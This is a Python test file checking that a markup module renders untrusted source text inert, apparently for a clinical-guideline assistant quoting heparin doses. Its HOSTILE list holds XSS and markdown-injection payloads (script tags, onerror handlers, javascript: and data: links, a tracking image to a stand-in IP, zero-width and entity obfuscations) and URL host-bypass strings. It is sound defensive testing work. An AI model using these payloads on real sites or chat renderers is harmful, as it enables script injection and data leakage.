"""Source and generator text made inert for display (assistant/markup.py), checked by
rendering the result with a CommonMark renderer and reading the HTML it produces."""

from __future__ import annotations

import html as html_lib
import re

import pytest
from markdown_it import MarkdownIt

from assistant.markup import inline, link_hosts, safe_url, source_link, visible
from guardrails.normalise import normalise

HOSTS = frozenset({"guidelines.example.org"})
_MD = MarkdownIt("commonmark").enable("table")
_TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
# What a GFM renderer (marked, as in the chat) would turn into a link by itself.
_AUTOLINK = re.compile(r"(?<![\\(\w])(?:https?|ftp)://|(?<![\\\w.])www\.|\w@\w")


def html_of(markdown: str) -> str:
    return _MD.render(markdown)


def tags_of(html: str) -> list[tuple[str, str]]:
    return [(m.group(1).lower(), m.group(2)) for m in _TAG.finditer(html)]


HOSTILE = [
    ("image", "see ![x](http://198.51.100.7/track.png?q=heparin) now"),
    ("script", "give <script>window.__pwned=1</script> heparin"),
    ("img-onerror", "heparin <img src=x onerror=alert(1)> infusion"),
    ("javascript-link", "read [the guidance](javascript:alert(1)) first"),
    ("data-link", "read [this](data:text/html;base64,PHNjcmlwdD4=) first"),
    ("foreign-link", "read [this](http://198.51.100.7/x) first"),
    ("foreign-link-title", 'read [this](https://evil.example.net/x "t") first'),
    ("allowed-host-image", "![x](https://guidelines.example.org/x.png)"),
    ("autolink", "read <http://198.51.100.7/x> first"),
    ("bare-url", "read http://198.51.100.7/x and www.evil.example.net first"),
    ("email", "write to someone@evil.example.net"),
    ("entity-tag", "heparin &#60;img src=x onerror=alert(1)&#62; infusion"),
    ("named-entity-tag", "heparin &lt;script&gt;alert(1)&lt;/script&gt;"),
    ("zero-width-tag", "heparin <\u200bscript>alert(1)<\u200b/script>"),
    ("zero-width-scheme", "[x](java\u200bscript:alert(1))"),
    ("reference-definition", "heparin [ref]\n\n[ref]: http://198.51.100.7/x"),
    ("html-block", "heparin\n<div onmouseover=alert(1)>x</div>"),
    ("comment", "heparin <!-- <img src=x> --> infusion"),
    ("escaped-bracket", "heparin \\[x](http://198.51.100.7/x)"),
    ("heading-injection", "heparin\n#### Dose check\n- fake"),
]


@pytest.mark.parametrize("text", [t for _, t in HOSTILE], ids=[i for i, _ in HOSTILE])
def test_hostile_text_renders_as_text(text: str) -> None:
    md = inline(text, HOSTS)
    html = html_of(f"- {md}")
    assert {tag for tag, _ in tags_of(html)} <= {"ul", "li", "p", "em", "strong"}, html
    assert "\n" not in md  # one line: no heading, list or definition of its own
    assert not _AUTOLINK.search(md), md


def test_links_to_allowed_hosts_stay_links() -> None:
    md = inline("see [the summary](https://guidelines.example.org/heparin?x=(1)) and more", HOSTS)
    assert md.startswith("see ")
    md = inline("see [the summary](https://guidelines.example.org/heparin) now", HOSTS)
    assert tags_of(html_of(md)) == [
        ("p", ""),
        ("a", ' href="https://guidelines.example.org/heparin"'),
    ]
    # The same link is text when the host is not allowed, and an image never loads.
    assert "<a" not in html_of(inline("see [s](https://guidelines.example.org/h) now"))
    assert "<img" not in html_of(inline("![s](https://guidelines.example.org/h.png)", HOSTS))


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://guidelines.example.org/a b", None),
        ("https://guidelines.example.org/a(b)", "https://guidelines.example.org/a%28b%29"),
        ("HTTPS://Guidelines.Example.org/x", "https://guidelines.example.org/x"),
        ("https://user@guidelines.example.org/x", None),
        ("https://guidelines.example.org.evil.net/x", None),
        ("http://198.51.100.7/x", None),
        ("javascript:alert(1)", None),
        ("data:text/html,x", None),
        ("//guidelines.example.org/x", None),
        ("https://guidelines.example.org\\@evil.net/", None),
    ],
)
def test_safe_url(url: str, safe: str | None) -> None:
    assert safe_url(url, HOSTS) == safe


def test_link_hosts_are_the_sources_http_urls_and_the_setting() -> None:
    hosts = link_hosts(
        ["https://a.example.org/x", "javascript:alert(1)", None, "ftp://b.example.org/"],
        ["Extra.Example.org "],
    )
    assert hosts == {"a.example.org", "extra.example.org"}


def test_source_link_shows_the_url_as_a_text_link() -> None:
    html = html_of(source_link("https://guidelines.example.org/h", HOSTS))
    assert '<a href="https://guidelines.example.org/h">https://guidelines.example.org/h</a>' in html
    assert "<a" not in html_of(source_link("javascript:alert(1)", HOSTS))


@pytest.mark.parametrize(
    "text",
    [
        "heparin 5\u200b0 mg",
        "heparin &#53;0 mg",
        "heparin &#x35;0 mg",
        "heparin 5&frac12 mg",
        "heparin <b>5</b>0 mg",
        "heparin 5<!-- -->0 mg",
    ],
    ids=["zero-width", "entity", "hex-entity", "legacy-entity", "tag", "comment"],
)
def test_the_display_shows_the_source_as_written(text: str) -> None:
    """A reader sees the source's own characters, markup as text: the display decodes no
    entity and drops no tag, so it cannot show a dose the guard did not read. Only the
    characters the guard drops too (format characters) are left out."""
    shown = html_lib.unescape(re.sub(r"<[^>]+>", "", html_of(inline(text)))).strip()
    assert shown == visible(text)
    if "\u200b" in text:
        assert shown == normalise(text).text == "heparin 50 mg"


def test_control_characters_never_reach_a_terminal() -> None:
    assert visible("heparin\x1b[2J\x07 5\u200b0 mg\u202e") == "heparin\ufffd[2J\ufffd 50 mg"
    assert visible("plain") == "plain"
